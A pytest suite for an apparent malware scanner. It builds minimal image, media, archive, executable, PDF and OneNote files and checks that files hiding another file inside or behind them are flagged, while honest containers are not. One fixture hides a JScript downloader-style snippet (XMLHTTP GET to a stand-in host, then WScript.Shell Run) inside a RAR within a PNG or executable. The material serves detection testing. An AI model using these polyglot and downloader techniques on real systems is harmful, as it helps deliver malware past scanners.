"""Files of two kinds, put together as the tools for polyglots do it, and honest files that hold others."""

from __future__ import annotations

import gzip
import io
import itertools
import struct
import tarfile
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safecare.examine.api import Part, Verdicts
from safecare.examine.engine import Engine
from safecare.examine.late import late
from safecare.examine.types import recognise
from safecare.formats.extent import end_of

ENGINE = Engine()
TEXT = b"Visiting hours are from two to six.\n" * 8


def zipped(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, raw in members.items():
            archive.writestr(name.replace("_", "."), raw)
    return out.getvalue()


def tape(**members: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, raw in members.items():
            head = tarfile.TarInfo(name.replace("_", "."))
            head.size = len(raw)
            archive.addfile(head, io.BytesIO(raw))
    return out.getvalue()


def chunk(mark: bytes, raw: bytes) -> bytes:
    return struct.pack(">I", len(raw)) + mark + raw + struct.pack(">I", zlib.crc32(mark + raw))


def png(more: bytes = b"") -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) + (chunk(b"teXt", more) if more else b"")
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")


def jpeg(more: bytes = b"") -> bytes:
    comment = b"\xff\xfe" + struct.pack(">H", len(more) + 2) + more if more else b""
    return b"\xff\xd8" + comment + b"\xff\xda\0\2\x11\xff\0\x22\xff\xd9"


def gif(more: bytes = b"") -> bytes:
    rows = b"".join(bytes([len(more[at : at + 255])]) + more[at : at + 255] for at in range(0, len(more), 255))
    return b"GIF89a\1\0\1\0\0\0\0" + (b"!\xfe" + rows + b"\0" if more else b"") + b",\0\0\0\0\1\0\1\0\0\2\2\x44\1\0;"


def wave(more: bytes = b"") -> bytes:
    parts = [(b"junk", more)] * bool(more) + [
        (b"fmt ", struct.pack("<HHIIHH", 1, 1, 8000, 8000, 1, 8)),
        (b"data", b"\x80" * 40),
    ]
    body = b"WAVE" + b"".join(mark + struct.pack("<I", len(raw)) + raw + b"\0" * (len(raw) % 2) for mark, raw in parts)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def film(more: bytes = b"") -> bytes:
    boxes = [(b"ftyp", b"isom\0\0\2\0isom")] + [(b"free", more)] * bool(more) + [(b"mdat", b"\x80" * 40)]
    return b"".join(struct.pack(">I", len(raw) + 8) + mark + raw for mark, raw in boxes)


def notebook(raw: bytes, *, says: int = -1) -> bytes:
    """Return a section of OneNote that holds the file `raw`; it says its own length, or `says`; 0 for nothing."""
    held = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<QIQ", len(raw), 0, 0)
    held += raw + b"\0" * (-len(raw) % 8) + bytes.fromhex("22a7fb71790f0b4abb13899256426b24")
    size = 1024 + len(held) + 64
    head = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3").ljust(48, b"\1")
    head += bytes.fromhex("3fdd9a101b91f549a5d01791edc8aed8") if says else bytes(16)
    head = head.ljust(196, b"\1") + struct.pack("<Q", size if says < 0 else says)
    return head.ljust(1024, b"\0") + held + bytes(64)


def rar(raw: bytes = TEXT, name: bytes = b"a.txt") -> bytes:
    def block(body: bytes, data: bytes = b"") -> bytes:
        sized = bytes([len(body)]) + body
        return struct.pack("<I", zlib.crc32(sized)) + sized + data

    size = bytes([len(raw) & 127 | 128, len(raw) >> 7])
    head = (
        b"\2\2"
        + size
        + b"\4"
        + size
        + b"\x20"
        + struct.pack("<I", zlib.crc32(raw))
        + b"\0\1"
        + bytes([len(name)])
        + name
    )
    return b"Rar!\x1a\7\1\0" + block(b"\1\0\0") + block(head, raw) + block(b"\5\0\0")


def cabinet() -> bytes:
    entry = struct.pack("<IIHHHH", len(TEXT), 0, 0, 0x5864, 0, 32) + b"a.txt\0"
    data = struct.pack("<IHH", 0, len(TEXT), len(TEXT)) + TEXT
    head = struct.pack("<IIIIIBBHHHHH", 0, 44 + len(entry) + len(data), 0, 44, 0, 3, 1, 1, 1, 0, 1, 0)
    return b"MSCF" + head + struct.pack("<IHH", 44 + len(entry), 1, 0) + entry + data


def arj() -> bytes:
    head = bytes([30, 11, 1, 0, 0, 0, 2, 0]) + bytes(22) + b"a.arj\0\0"
    return b"\x60\xea" + struct.pack("<H", len(head)) + head + struct.pack("<IH", zlib.crc32(head), 0) + b"\x60\xea\0\0"


def program(more: bytes = b"", behind: bytes = b"") -> bytes:
    second = -(-(64 + len(more)) // 8) * 8
    head = b"MZ" + bytes(58) + struct.pack("<I", second) + more
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 224, 0x102) + struct.pack("<H", 0x10B) + bytes(222)
    start = second + len(coff) + 40
    section = b".text\0\0\0" + struct.pack("<IIIIIIHHI", 16, 4096, 16, start, 0, 0, 0, 0, 0x60000020)
    return head.ljust(second, b"\0") + coff + section + b"\xc3" * 16 + behind


def linux(behind: bytes = b"") -> bytes:
    head = b"\x7fELF\2\1\1".ljust(16, b"\0") + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return head + struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, 124, 124, 4096) + b"\xc3" * 4 + behind


PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n%%EOF\n"


def attached(raw: bytes) -> bytes:
    """Return a PDF that carries the file `raw` as it is."""
    held = b"9 0 obj<</Type/EmbeddedFile/Length %d>>stream\n%s\nendstream endobj\n2 0 obj" % (len(raw), raw)
    return PDF.replace(b"2 0 obj", held, 1)


PAGE = b"<html><body><script>top.location='https://a.example/'</script></body></html>"
APPLICATION = b"<hta:application id=a><script language=vbscript>MsgBox 1</script>"
HOSTS = {"png": png, "jpeg": jpeg, "gif": gif, "wav": wave, "mp4": film}
GUESTS = {
    "rar": rar(),
    "cab": cabinet(),
    "arj": arj(),
    "zip": zipped(a_txt=TEXT),
    "pdf": PDF,
    "html": PAGE,
    "hta": APPLICATION,
    "script": b"\n#!/bin/sh\nid\n",
    "batch": b"\r\n@echo off\r\nstart a\r\n",
    "pe": program(),
    "elf": linux(),
}
FOUND = (Verdicts.SUSPICIOUS, Verdicts.MALICIOUS)
SPELLED = {"hta": "html", "batch": "script"}


@pytest.mark.parametrize(("host", "guest"), list(itertools.product(HOSTS, GUESTS)))
def test_a_picture_or_film_with_another_file_behind_or_within_is_told_as_both(host: str, guest: str) -> None:
    for raw in (HOSTS[host]() + GUESTS[guest], HOSTS[host](GUESTS[guest])):
        found = ENGINE.judge(raw, "a.bin")
        assert {host, SPELLED.get(guest, guest)} <= set(found.type.split("+")), found.type
        assert found.verdict in FOUND


@pytest.mark.parametrize("guest", ["rar", "cab", "arj", "html", "hta", "script", "batch", "pe"])
@pytest.mark.parametrize("host", [zipped(a_txt=TEXT), rar(), PDF, tape(a_txt=TEXT), cabinet()])
def test_another_file_behind_what_holds_files_is_told(host: bytes, guest: str) -> None:
    kind = recognise(Part(host))[0]
    if kind == guest:
        return
    found = ENGINE.judge(host + GUESTS[guest], "a.bin")
    assert {kind, SPELLED.get(guest, guest)} <= set(found.type.split("+")), found.type
    assert "file.polyglot" in {one.rule for one in found.findings}


@pytest.mark.parametrize("guest", ["rar", "cab", "html", "batch"])
def test_another_file_behind_packed_data_is_told(guest: str) -> None:
    found = ENGINE.judge(gzip.compress(TEXT, mtime=0) + GUESTS[guest], "a.gz")
    assert "file.polyglot" in {one.rule for one in found.findings}


def test_what_is_hidden_late_is_opened_and_judged() -> None:
    shell = b'new ActiveXObject("MSXML2.XMLHTTP").open("GET","http://e/a");new ActiveXObject("WScript.Shell").Run("a")'
    for raw in (png(rar(shell, b"a.js")), program(behind=rar(shell, b"a.js"))):
        found = ENGINE.judge(raw, "a.bin")
        assert any(one.rule == "script.attack" or one.where.part.endswith("a.js") for one in found.findings), found
        assert found.verdict in FOUND


@pytest.mark.parametrize(
    ("raw", "guest"),
    [(program(rar()), "rar"), (program(PAGE), "html"), (program(behind=APPLICATION), "html"), (program(PDF), "pdf")],
)
def test_a_program_with_what_no_installer_holds_is_found(raw: bytes, guest: str) -> None:
    found = ENGINE.judge(raw, "a.exe")
    assert guest in found.type.split("+")
    assert "file.polyglot" in {one.rule for one in found.findings}


def test_a_document_that_word_reads_as_a_kept_page_is_found() -> None:
    page = (
        b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\nContent-Type: application/msword\n\n"
    )
    assert "pdf.web-archive" in {one.rule for one in ENGINE.judge(PDF[:9] + page + b"--x--\n" + PDF[9:]).findings}


HONEST = {
    "installers": [program(behind=one) for one in (rar(), cabinet(), zipped(a_txt=TEXT), b"<html><p>Bye</p></html>")],
    "programs with archives": [
        linux(zipped(a_txt=TEXT)),
        b"#!/usr/bin/env python3\n" + zipped(__main___py=b"print(1)"),
    ],
    "archives in archives": [
        tape(a_zip=zipped(a_txt=TEXT), b_pdf=PDF, c_html=PAGE),
        tape(a_pdf=PDF),
        zipped(a_pdf=PDF, b_rar=rar()),
        gzip.compress(tape(a_zip=zipped(a_txt=TEXT)), 0, mtime=0),
    ],
    "pictures": [
        png() + bytes(4000),
        jpeg() + jpeg(),
        jpeg() + film(),
        png(b"Comment\0compatible <html>"),
        gif() + b"\0",
    ],
    "texts that name marks": [
        b"MAGIC = {b'%PDF-1.4': 'pdf', b'Rar!': 'rar'}\n",
        b"GET /a.pdf %PDF-1.4 200\n" * 9,
        b"<!DOCTYPE html><html><p>files begin with %PDF-1.4 or PK</p></html>",
        b"# Tool\n```sh\n#!/bin/sh\nid\n```\n```html\n<script>1</script>\n```\n",
    ],
    "documents": [PDF + b"\r\n\0\0", b"\xef\xbb\xbf" + PDF, attached(rar())],
}


@pytest.mark.parametrize("says", [-1, 0], ids=["of a computer", "of a server"])
def test_a_file_in_a_notebook_is_no_second_nature_of_it(says: int) -> None:
    whole = notebook(zipped(a_txt=TEXT), says=says)
    assert ENGINE.judge(whole).type == "onenote"
    assert ENGINE.judge(whole).verdict is Verdicts.CLEAN
    found = ENGINE.judge(notebook(zipped(a_exe=b"MZ" + bytes(200)), says=says))
    assert found.type == "onenote"


@pytest.mark.parametrize("says", [-1, 0, 1 << 62, 1700], ids=["its end", "nothing", "too much", "the archive too"])
def test_an_archive_behind_a_notebook_is_a_second_nature(says: int) -> None:
    raw = notebook(TEXT) if says < 0 else notebook(TEXT, says=says)
    assert ENGINE.judge(raw + zipped(a_txt=TEXT)).type == "onenote+zip"
    found = ENGINE.judge(raw.replace(b"\1" * 8, b"\2" * 8) + zipped(a_txt=TEXT))
    assert "file.polyglot" in {one.rule for one in found.findings}
    if says < 0:  # with more bytes behind it, which readers of archives pass over
        assert ENGINE.judge(raw + zipped(a_txt=TEXT) + bytes(9)).type == "onenote+zip"


@pytest.mark.parametrize("name", HONEST)
def test_honest_files_that_hold_others_are_no_alarm(name: str) -> None:
    for raw in HONEST[name]:
        found = ENGINE.judge(raw, "a.bin")
        assert "file.polyglot" not in {one.rule for one in found.findings}, found


@pytest.mark.parametrize("kind", ["png", "jpeg", "gif", "wav", "mp4", "rar", "cab", "zip", "pe", "elf"])
def test_a_file_says_where_it_ends(kind: str) -> None:
    raw = {**{name: make() for name, make in HOSTS.items()}, **GUESTS}[kind]
    assert end_of(kind, raw) == len(raw)
    assert end_of(kind, raw + TEXT) == len(raw)


KINDS = (
    *("png", "gif", "jpeg", "bmp", "webp", "mp4", "ogg", "matroska", "flv", "ico", "icc", "swf", "wasm", "lnk"),
    *("pe", "elf", "macho", "zip", "rar", "7z", "cab", "tar", "cpio", "ar", "zstd", "pcap", "pcapng", "ole", "iso"),
    *("pdf", "sqlite", "onenote"),
)


@given(st.sampled_from(KINDS), st.binary(max_size=400))
def test_any_bytes_have_an_end_within_or_none(kind: str, raw: bytes) -> None:
    heads = {
        "pe": program(),
        "elf": linux(),
        "rar": rar(),
        "jpeg": jpeg(),
        "gif": gif(),
        "lnk": b"L\0\0\0".ljust(76, b"\xff"),
    }
    assert 0 <= end_of(kind, raw) <= len(raw)
    whole = heads.get(kind, b"") + raw
    assert 0 <= end_of(kind, whole) <= len(whole)
    assert all(0 < at < len(whole) for _, at in late(whole, (kind,)))


@pytest.mark.timeout(120)
@pytest.mark.parametrize(
    "raw",
    [
        jpeg()[:-1] + b"\xff\0" * 2_000_000,
        gif()[:13] + b"!\xfe" + b"\1a" * 2_000_000,
        png() + b"<" * 4_000_000,
        png() + b"\x60\xea\x28\0" * 1_000_000,
        b"\x28\xb5\x2f\xfd\x20\5" + bytes(4_000_000),
        b"\xcf\xfa\xed\xfe" + b"\xff" * 28 + b"\2\0\0\0\x08\0\0\0" * 500_000,
    ],
)
def test_walks_that_writers_make_long_end(raw: bytes) -> None:
    """Each took seconds with a walk byte by byte; the bound is far above what any machine needs."""
    ENGINE.judge(raw, "a.bin")
